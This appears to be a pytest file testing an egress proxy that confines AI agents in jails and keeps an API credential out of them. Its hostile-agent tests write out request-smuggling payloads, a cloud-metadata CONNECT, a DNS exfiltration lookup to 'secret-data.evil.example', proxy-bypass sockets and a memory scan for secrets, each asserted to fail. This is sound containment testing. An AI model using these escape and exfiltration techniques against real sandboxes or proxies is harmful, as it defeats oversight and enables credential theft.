"""What an agent in a real jail reaches by the proxy, and what a hostile one tries to go around it."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from edge_agent.config import CredentialConfig
from edge_agent.egress.addresses import networks
from edge_agent.egress.credentials import Credentials
from edge_agent.egress.gate import ALLOWED
from edge_agent.egress.outside import Outside
from edge_agent.egress.proxy import Egress, environment
from edge_agent.egress.rules import Why
from edge_agent.jail.api import Jail, JailSpec
from shared.identity import InstanceKey
from shared.network_policy import PROXY_PORT, Allow, NetworkSection, Upstream
from tests.support.eventually import eventually
from tests.support.jailer import LIMITS, RunningJailer, python, spec
from tests.support.web import Authority, Web, running_web

SECRET = "sk-very-secret-0123456789"

# Runs each message as a program, and answers with what it leaves in `result`, or with its error.
AGENT = r"""
import http.client, json, os, socket, ssl, threading, urllib.error, urllib.request
def get(url, data=None, headers={}):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=10) as answer:
            return [answer.status, answer.read().decode()]
    except urllib.error.HTTPError as error:
        return [error.code, json.loads(error.read())["reason"]]
def raw(data, port=3128):
    with socket.create_connection(("127.0.0.1", port), timeout=10) as peer:
        peer.sendall(data)
        return peer.recv(65536).decode("latin-1")
def attempt(f):
    try: return ["did", repr(f())[:200]]
    except OSError as e: return ["failed", type(e).__name__, str(e)]
while True:
    code = recv().decode()
    space = dict(globals())
    try:
        exec(code, space)
        send(json.dumps(space.get("result")).encode())
    except BaseException as error:
        send(json.dumps(["error", repr(error)]).encode())
"""

# Everywhere in a jail, for the secret: its beginning, and what follows as numbers, so that this is not it.
SEARCH = """
def there(data):
    at = data.find(b"sk-very-")
    while at >= 0:
        if list(data[at + 8 : at + 12]) == [115, 101, 99, 114]: return True
        at = data.find(b"sk-very-", at + 1)
    return False
def file(path):
    try: return os.path.isfile(path) and there(open(path, "rb").read(1 << 20))
    except OSError: return False
found = []
for top in ("/etc", "/run", "/tmp", "/state", "/agent", "/dev/shm", "/roost", "/var"):
    paths = [os.path.join(d, name) for d, _, names in os.walk(top) for name in names]
    found += filter(file, paths)
for pid in filter(str.isdecimal, os.listdir("/proc")):
    found += [pid + name for name in ("environ", "cmdline", "mountinfo") if file(f"/proc/{pid}/{name}")]
with open("/proc/self/mem", "rb") as memory:
    for line in open("/proc/self/maps"):
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        try:
            memory.seek(low)
            found += [line] if high - low < 64 << 20 and there(memory.read(high - low)) else []
        except (OSError, ValueError, OverflowError): pass
result = [found, sorted(os.environ)]
"""


@dataclass
class World:
    jailer: RunningJailer
    egress: Egress
    authority: Authority
    web: Web
    tls: Web

    def network(self, *hosts: str) -> NetworkSection:
        ports = (self.web.port, self.tls.port)
        return NetworkSection(
            tuple(Allow(host, ports=ports, private=True) for host in hosts),
            (Upstream("llm", f"https://api.example.com:{self.tls.port}/v1", "openai", private=True),),
        )

    async def started(
        self, jail_id: str, network: NetworkSection, user: str = "ana", way: str = "exec"
    ) -> Jail:
        env = environment(network)
        if way == "zygote":
            zygote = await self.jailer.zygote("v2", AGENT)
            jail = await self.jailer.jails.make(
                JailSpec(jail_id, "v2", ("/none",), env, LIMITS, zygote.jail_id)
            )
        else:
            jail = await self.jailer.jails.make(spec(jail_id, python(AGENT), **env))
        await self.egress.prepare(jail, network)
        self.egress.open(jail, InstanceKey("default", "chef", user), network, lambda: True)
        await jail.start()
        return jail

    def counts(self, user: str = "ana") -> dict[str, int]:
        return dict(self.egress.counts()[InstanceKey("default", "chef", user)])


async def run(jail: Jail, code: str) -> Any:
    async with asyncio.timeout(30.0):
        await jail.send(code.encode())
        return json.loads(await jail.receive())


@asynccontextmanager
async def _running(jailer: RunningJailer, directory: Path) -> AsyncIterator[World]:
    authority = Authority(directory)
    (directory / "openai").write_text(SECRET)

    async def resolve(host: str) -> Sequence[str]:
        return ["127.0.0.1"]

    certificate = authority.certificate("api.example.com", "web.example.com")
    async with running_web() as web, running_web(certificate) as tls:
        rule = CredentialConfig("openai", f"https://api.example.com:{tls.port}/v1", ("default/chef",))
        outside = Outside(networks(["127.0.0.0/8"]), authority.file, resolve)
        egress = Egress(outside, Credentials(directory, (rule,)))
        try:
            yield World(jailer, egress, authority, web, tls)
        finally:
            await egress.aclose()


@pytest.fixture
async def world(jailer: RunningJailer, tmp_path: Path) -> AsyncIterator[World]:
    async with _running(jailer, tmp_path) as world:
        yield world


@pytest.mark.parametrize("way", ["exec", "zygote"])
async def test_an_agent_finds_its_way_out_by_its_environment(world: World, way: str) -> None:
    jail = await world.started("a", world.network("web.example.com", "api.example.com"), way=way)
    url = f"http://web.example.com:{world.web.port}/x"
    assert await run(jail, f"result = get({url!r})") == [200, "hello"]
    assert await run(jail, "result = get('http://llm.roost/chat', b'{}')") == [200, "hello"]
    assert world.tls.seen[-1].headers["authorization"] == f"Bearer {SECRET}"
    ca = world.authority.file.read_text()
    over_tls = f"""
open("/tmp/ca.pem", "w").write({ca!r})
trust = ssl.create_default_context(cafile="/tmp/ca.pem")
url = "https://api.example.com:{world.tls.port}/x"
result = urllib.request.urlopen(url, timeout=10, context=trust).read().decode()
"""
    assert await run(jail, over_tls) == "hello"
    assert await run(jail, "result = get('http://evil.example/')") == [403, "HOST_DENIED"]
    assert world.counts() == {ALLOWED: 3, Why.HOST_DENIED: 1}


async def test_without_a_network_section_there_is_no_proxy(world: World) -> None:
    jail = await world.started("a", NetworkSection())
    assert await run(jail, "result = [k for k in os.environ if 'proxy' in k.lower()]") == []
    assert (await run(jail, f"result = attempt(lambda: raw(b'x', {PROXY_PORT}))"))[:2] == [
        "failed",
        "ConnectionRefusedError",
    ]


async def test_a_refused_tunnel_says_why_to_an_ordinary_client(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    told = await run(jail, "result = attempt(lambda: urllib.request.urlopen('https://evil.example/'))")
    assert told[0] == "failed"
    assert "403 HOST_DENIED: this agent may not reach evil.example" in told[2]


async def test_two_instances_have_two_policies(world: World) -> None:
    a = await world.started("a", world.network("web.example.com"), "ana")
    b = await world.started("b", world.network("other.example.com"), "ben")
    urls = [f"http://{host}.example.com:{world.web.port}/" for host in ("web", "other")]
    code = f"result = [get(url)[0] for url in {urls!r}]"
    assert await run(a, code) == [200, 403]
    assert await run(b, code) == [403, 200]
    assert world.counts("ana") == {ALLOWED: 1, Why.HOST_DENIED: 1} == world.counts("ben")


async def test_no_way_around_the_proxy(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    attempts = f"""
result = [
    attempt(lambda: socket.create_connection(("127.0.0.1", {world.web.port}), timeout=2)),
    attempt(lambda: socket.create_connection(("8.8.8.8", 53), timeout=2)),
    attempt(lambda: socket.getaddrinfo("web.example.com", 80)),
    attempt(lambda: socket.getaddrinfo("secret-data.evil.example", 80)),
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))),
    attempt(lambda: socket.create_connection(("::1", {world.web.port}), timeout=2)),
    attempt(lambda: socket.create_server(("127.0.0.1", {PROXY_PORT}))),
]
"""
    for told in await run(jail, attempts):
        assert told[0] == "failed", told
    assert world.web.seen == []
    assert world.counts() == {}


async def test_what_a_hostile_agent_says_to_the_proxy(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    web = f"web.example.com:{world.web.port}"
    tries = {
        f"GET http://{web}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n": "NAME_MISMATCH",
        f"GET http://{web}/ HTTP/1.1\r\nHost: {web}\r\nHost: evil.example\r\n\r\n": "BAD_REQUEST",
        f"GET http://{web}@evil.example/ HTTP/1.1\r\nHost: {web}\r\n\r\n": "BAD_REQUEST",
        f"POST http://{web}/ HTTP/1.1\r\nHost: {web}\r\nContent-Length: 4\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n\r\n": "BAD_REQUEST",
        f"GET http://{web}/ HTTP/1.1\r\nHost: {web}\r\nX: a\r\n b\r\n\r\n": "BAD_REQUEST",
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n": "HOST_DENIED",
        "CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n".replace("1.1", "1.0"): "HOST_DENIED",
        f"CONNECT 127.0.0.1:{world.web.port} HTTP/1.0\r\n\r\n": "HOST_DENIED",
        f"CONNECT 127.1:{world.web.port} HTTP/1.0\r\n\r\n": "BAD_REQUEST",
        "CONNECT web.example.com:22 HTTP/1.0\r\n\r\n": "PORT_DENIED",
        "GET http://llm.roost/v1/%2e%2e/admin HTTP/1.1\r\nHost: llm.roost\r\n\r\n": "BAD_REQUEST",
        "GET / HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n": "BAD_REQUEST",
    }
    for data, reason in tries.items():
        answer = await run(jail, f"result = raw({data.encode()!r})")
        assert f"Roost-Reason: {reason}\r\n" in answer, (data, answer)
    assert [seen.target for seen in world.web.seen] == []
    tunnel = f"""
peer = socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=10)
peer.sendall(b"CONNECT web.example.com:{world.tls.port} HTTP/1.0\\r\\n\\r\\n")
assert b"200" in peer.recv(4096)
trust = ssl._create_unverified_context()
result = attempt(lambda: trust.wrap_socket(peer, server_hostname="evil.example"))
"""
    told = await run(jail, tunnel)
    assert told[0] == "failed"
    assert "UNRECOGNIZED_NAME" in told[2].upper()
    assert world.tls.seen == []


async def test_a_credential_is_nowhere_in_the_jail(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    status, told = await run(jail, "result = get('http://llm.roost/headers', headers={'X-Api-Key': 'mine'})")
    assert status == 200
    assert world.tls.seen[-1].headers["authorization"] == f"Bearer {SECRET}"
    assert SECRET not in told
    assert "x-api-key" in told
    found, names = await run(jail, SEARCH)
    assert found == []
    assert "HTTP_PROXY" in names
    await run(jail, f"os.environ['PLANTED'] = bytes({list(SECRET.encode())}).decode()")
    assert (await run(jail, SEARCH))[0], "one that were there would be found"


async def test_a_download_ends_with_its_instance(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    await jail.send(
        f"""
answer = urllib.request.urlopen("http://web.example.com:{world.web.port}/endless", timeout=30)
threading.Thread(target=lambda: attempt(lambda: answer.read()), daemon=True).start()
""".encode()
    )
    await eventually(lambda: world.web.endless_bytes > 10_000, 10.0)
    world.egress.close("a")
    await eventually(lambda: world.web.open_now == 0, 5.0)
    assert await jail.receive() == b"null"
    url = f"http://web.example.com:{world.web.port}/"
    told = await run(jail, f"result = attempt(lambda: urllib.request.urlopen({url!r}, timeout=5))")
    assert told[0] == "failed", "and there is no other"


async def test_a_killed_jail_leaves_no_connection_and_no_socket(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    await jail.send(f"get('http://web.example.com:{world.web.port}/endless')".encode())
    await eventually(lambda: world.web.endless_bytes > 10_000, 10.0)
    await jail.kill()
    await eventually(lambda: world.web.open_now == 0, 5.0)
    world.egress.prune()
    assert world.egress.counts() == {}


async def test_a_hundred_connections_at_once_from_a_jail(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    code = f"""
peers = [socket.create_connection(("127.0.0.1", {PROXY_PORT}), timeout=20) for _ in range(100)]
host = "web.example.com:{world.web.port}"
for peer in peers:
    peer.sendall(f"GET http://{{host}}/ HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode())
result = sum(b"hello" in b"".join(iter(lambda: peer.recv(4096), b"")) for peer in peers)
"""
    assert await run(jail, code) == 100
    assert world.counts() == {ALLOWED: 100}


async def test_the_next_daemon_listens_again_where_the_last_one_did(world: World) -> None:
    jail = await world.started("a", world.network("web.example.com"))
    url = f"http://web.example.com:{world.web.port}/"
    assert await run(jail, f"result = get({url!r})") == [200, "hello"]
    world.egress.close("a")
    network = world.network("web.example.com")
    await world.egress.prepare(jail, network)
    world.egress.open(jail, InstanceKey("default", "chef", "ana"), network, lambda: True)
    assert await run(jail, f"result = get({url!r})") == [200, "hello"]


def test_nobody_listens_at_the_proxys_port_outside() -> None:
    with socket.socket() as sock:
        sock.settimeout(1.0)
        assert sock.connect_ex(("127.0.0.1", PROXY_PORT)) != 0
